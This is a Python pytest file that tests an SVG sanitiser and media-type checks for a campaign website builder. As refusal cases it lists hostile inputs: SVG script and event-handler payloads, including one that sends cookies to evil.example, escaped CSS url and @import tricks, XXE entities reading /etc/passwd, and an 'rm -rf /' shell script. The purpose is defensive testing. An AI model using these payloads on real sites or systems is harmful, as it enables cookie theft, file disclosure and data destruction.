"""Media files: only what the data uses is published, each checked by its content; SVGs cannot act."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest

import xml.etree.ElementTree as ET

from campaignsite.exports.media import checked_bytes, sniff
from campaignsite.exports.svg import clean_svg, UnsafeSvg

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32
LOGO = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><title>Logo</title><rect width="10" height="10"/></svg>'


def svg(body: str, extra: str = "") -> bytes:
    return (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" {extra} '
            f'viewBox="0 0 10 10">{body}</svg>').encode()


@pytest.mark.parametrize("name, body", [
    ("script", '<script>fetch("https://evil.example/?" + document.cookie)</script>'),
    ("script in a group", '<g><g><script href="https://evil.example/x.js"/></g></g>'),
    ("onload", '<rect width="1" height="1" onload="alert(1)"/>'),
    ("onclick upper case", '<circle r="1" ONCLICK="alert(1)"/>'),
    ("foreignObject", '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>'),
    ("external image", '<image href="https://tracker.example/pixel.png" width="1" height="1"/>'),
    ("xlink external image", '<image xlink:href="//tracker.example/p.png" width="1" height="1"/>'),
    ("other file", '<use href="sprites.svg#logo"/>'),
    ("javascript link", '<a href="javascript:alert(1)"><text>x</text></a>'),
    ("css import", '<style>@import url("https://fonts.example/x.css");</style>'),
    ("css remote url", '<rect style="fill:url(https://evil.example/x)" width="1" height="1"/>'),
    ("css escaped url", '<style>rect{fill:u\\72l(https://evil.example/x)}</style>'),
    ("css escaped url 2", '<style>rect{fill:\\75rl(https://evil.example/x)}</style>'),
    ("css escaped import", '<style>@\\69mport "https://evil.example/x.css";</style>'),
    ("css commented import", '<style>@im/**/port "https://evil.example/x.css";</style>'),
    ("css image-set", '<style>rect{background-image:image-set("https://evil.example/x.png" 1x)}</style>'),
    ("escaped url in attribute", '<rect style="fill:u\\rl(https://evil.example/x)" width="1" height="1"/>'),
    ("attribute url", '<rect fill="url(http://evil.example/#g)" width="1" height="1"/>'),
    ("animated href", '<a href="#x"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
    ("html script namespace", '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(1)</html:script>'),
    ("stylesheet instruction", ''),
    ("html iframe", '<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" src="https://evil.example"/>'),
])
def test_an_svg_that_could_act_or_call_out_is_refused(name, body):
    doc = svg(body)
    if name == "stylesheet instruction":
        doc = b'<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.css"?>' + doc
    with pytest.raises(UnsafeSvg):
        clean_svg(doc)


@pytest.mark.parametrize("doc", [
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>',
    b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
])
def test_entities_and_doctypes_are_refused(doc):
    with pytest.raises(UnsafeSvg, match="DOCTYPE|entities"):
        clean_svg(doc)


def same_tree(a: bytes, b: bytes) -> bool:
    """Two XML documents say the same (Canonical XML: attribute order, quotes and prefixes aside)."""
    return ET.canonicalize(a.decode()) == ET.canonicalize(b.decode())


def test_a_clean_svg_is_published_as_its_checked_tree():
    assert same_tree(clean_svg(LOGO), LOGO)


def test_internal_references_and_embedded_raster_images_are_kept():
    doc = svg('<defs><linearGradient id="g"/></defs><rect fill="url(#g)" width="1" height="1"/>'
              '<use href="#g"/><image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>')
    assert same_tree(clean_svg(doc), doc)


def test_editor_metadata_is_stripped_and_the_rest_kept():
    doc = svg('<sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"/>'
              '<rect width="5" height="5" inkscape:label="layer"/>',
              'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"')
    cleaned = clean_svg(doc).decode()
    assert "sodipodi" not in cleaned and "inkscape" not in cleaned
    assert '<rect width="5" height="5"' in cleaned


@pytest.mark.parametrize("name, content, ok", [
    ("photo.png", PNG, True),
    ("photo.jpg", JPEG, True),
    ("photo.png", JPEG, False),                                # a JPEG named .png
    ("flyer.pdf", b"%PDF-1.7\n", True),
    ("flyer.pdf", b"<html><script>alert(1)</script></html>", False),
    ("logo.svg", b"<html><body><script>alert(1)</script></body></html>", False),
    ("logo.svg", LOGO, True),
    ("text.md", "Schrijf **mee**: één tekst.".encode(), True),
    ("text.md", b"<html><script>alert(1)</script>", False),   # HTML in a text file
    ("page.html", b"<p>hi</p>", False),                        # not a published type
    ("run.sh", b"#!/bin/sh\nrm -rf /\n", False),
    ("photo.jpg", b"\x00\x01\x02 binary junk", False),
])
def test_published_files_are_what_their_names_say(tmp_path: Path, name, content, ok):
    path = tmp_path / name
    path.write_bytes(content)
    if ok:
        assert checked_bytes(path) == content if name != "logo.svg" else same_tree(checked_bytes(path), content)
    else:
        with pytest.raises(ValueError):
            checked_bytes(path)


def test_sniff_tells_html_from_text():
    assert sniff(b"<!doctype html><html><body>x</body></html>") == "HTML"
    assert sniff("Gewone tekst, ook met <3 en a < b.".encode()) == "text"


# --- In a project: what is published, what is refused ------------------------------------------

MEDIA = "campaigns/demo-2025/media"


def test_only_referenced_media_are_published(tmp_path):
    from campaignsite.pipeline import build, BuildConfig
    from project import write_project
    root = write_project(tmp_path / "project", {
        f"{MEDIA}/.env": "DEPLOY_TOKEN=secret\n",
        f"{MEDIA}/draft-contract.pdf": b"%PDF-1.7\nprivate\n",
        f"{MEDIA}/notes.html": "<script>alert(1)</script>",
        f"{MEDIA}/logo.svg~": "backup",
    })
    output = tmp_path / "site"
    build(BuildConfig(root=root, output=output, today=dt.date(2025, 6, 15), jobs=1))
    assert sorted(p.name for p in (output / "demo-2025" / "media").iterdir()) == ["garden.svg", "logo.svg"]


@pytest.mark.parametrize("name, content, code", [
    ("logo.svg", svg('<script>alert(1)</script>').decode(), "unsafe-media"),
    ("logo.svg", svg('<image href="https://tracker.example/p.gif" width="1" height="1"/>').decode(), "unsafe-media"),
    ("logo.svg", "<html><body><script>alert(1)</script></body></html>", "media-type"),
    ("garden.svg", PNG, "media-type"),
])
def test_a_bad_referenced_file_is_a_problem_naming_it(tmp_path, name, content, code):
    from project import validate, write_project
    problems = validate(write_project(tmp_path, {f"{MEDIA}/{name}": content}))
    assert [(p.path, p.code) for p in problems] == [(f"{MEDIA}/{name}", code)], [str(p) for p in problems]
